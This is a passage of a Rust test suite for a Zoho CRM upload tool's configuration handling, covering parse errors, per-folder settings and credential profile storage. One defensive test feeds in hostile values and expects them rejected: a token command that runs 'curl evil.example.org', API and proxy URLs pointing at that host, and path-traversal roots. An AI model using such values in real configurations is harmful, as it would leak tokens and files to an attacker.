        assert!(said(access_with(&TargetArgs::default(), &UserFile::default(), &vars)).contains("chmod 600"));
    }

    #[test]
    fn mistakes_are_named_with_their_line_and_what_would_be_right() {
        for (text, wanted) in [
            ("\nconcurency = 3", "attache.toml, line 2: there is no setting `concurency`; did you mean `concurrency`?"),
            ("concurrency = 26", "attache.toml, line 1: `concurrency` must be a number from 1 to 25"),
            ("rate = 10", "attache.toml, line 1: `rate` must be a text like \"10/s\", \"90/min\" or \"none\""),
            ("strict = \"yes\"", "attache.toml, line 1: `strict` must be true or false"),
            ("[strict]", "attache.toml, line 1: `strict` must be a plain value"),
            (
                "[profiles.a]\ndc = \"mars\"",
                "attache.toml, line 2: `dc` must be one of us, eu, in, au, jp, cn, ca, sa, uk",
            ),
            (
                "[profiles.a]\nclient_ident = \"x\"",
                "attache.toml, line 2: there is no setting `client_ident`; did you mean `client_id`?",
            ),
        ] {
            assert_eq!(said(TestFolder::with(text).user()), wanted);
        }
    }

    #[test]
    fn a_file_beside_the_manifest_sets_how_a_run_goes() {
        let folder =
            TestFolder::with("concurrency = 2\nmax_size = \"20MB\"\ncustom_modules = [\"Fleet\"]\nroot = \"scans\"");
        fs::create_dir(folder.0.path().join("scans")).expect("a folder");
        let run = folder.beside().expect("readable");
        assert_eq!((run.concurrency, run.max_size), (Some(2), Some(20_000_000)));
        assert_eq!(run.root, Some(folder.0.path().join("scans")));
        assert_eq!(
            beside(Path::new("/nowhere/at/all/uploads.csv"), &RunSettings::default()),
            Ok(RunSettings::default())
        );
    }

    #[test]
    fn a_folder_from_a_stranger_cannot_send_files_or_tokens_anywhere() {
        let outside = tempfile::tempdir().expect("a folder");
        for text in [
            "api_domain = \"https://evil.example.org\"",
            "dc = \"cn\"",
            "accounts_url = \"https://evil.example.org\"",
            "token_command = [\"sh\", \"-c\", \"curl evil.example.org\"]",
            "access_token = \"x\"",
            "ca_file = \"ca.pem\"",
            "proxy = \"http://evil.example.org\"",
            "allow_outside = true",
            "settle_time = \"0s\"",
            "[profiles.default]\napi_domain = \"https://evil.example.org\"",
        ] {
            assert!(
                said(TestFolder::with(text).beside()).contains("may not stand in a file beside a manifest"),
                "{text}"
            );
        }
        for root in [
            "..",
            "/",
            "../..",
            "missing",
            "//srv/share",
            "/\\\\srv/share",
            &outside.path().display().to_string().replace('\\', "/"),
        ] {
            let error = said(TestFolder::with(&format!("root = \"{root}\"")).beside());
            assert!(error.contains("inside that of the manifest"), "{root}: {error}");
        }
        #[cfg(unix)]
        {
            let folder = TestFolder::with("root = \"link\"");
            std::os::unix::fs::symlink(outside.path(), folder.0.path().join("link")).expect("a link");
            assert!(said(folder.beside()).contains("inside that of the manifest"));
        }
    }

    #[test]
    fn storing_a_profile_leaves_the_rest_of_the_file_alone() {
        let folder = TestFolder::with(PROFILE);
        let place = Where { dc: Some(DataCentre::Jp), ..Where::default() };
        let new = NewProfile {
            place: &place,
            client_id: &secret("1000.new"),
            client_secret: &secret("new-secret"),
            refresh_token: &secret("new-token"),
            scopes: &["ZohoCRM.modules.ALL".to_owned()],
        };
        store_profile(&folder.file(), "work", &new).expect("stored");
        let text = fs::read_to_string(folder.file()).expect("readable");
        assert!(text.starts_with("\n# mine\nconcurrency = 3\n"), "{text}");
        let user = folder.user().expect("readable, and private");
        assert_eq!(user.profiles["work"].place.dc, Some(DataCentre::Jp));
        assert_eq!(user.profiles["work"].scopes, ["ZohoCRM.modules.ALL"]);
        assert_eq!(remove_profile(&folder.file(), "work"), Ok(true));
        assert_eq!(remove_profile(&folder.file(), "work"), Ok(false));
        assert_eq!(folder.user().expect("readable").profiles.len(), 2);
    }

    #[test]
    fn a_first_profile_makes_its_folder_and_file() {
        let folder = tempfile::tempdir().expect("a folder");
        let path = folder.path().join("deep").join(FILE_NAME);
        let new = NewProfile {
            place: &Where { api_domain: Some("https://a.zohoplatform.com".to_owned()), ..Where::default() },
            client_id: &secret("a"),
            client_secret: &secret("b"),
            refresh_token: &secret("c"),
            scopes: &[],
        };
        store_profile(&path, DEFAULT_PROFILE, &new).expect("stored");
        assert!(UserFile::load(&path).expect("readable").profiles.contains_key(DEFAULT_PROFILE));
    }
}
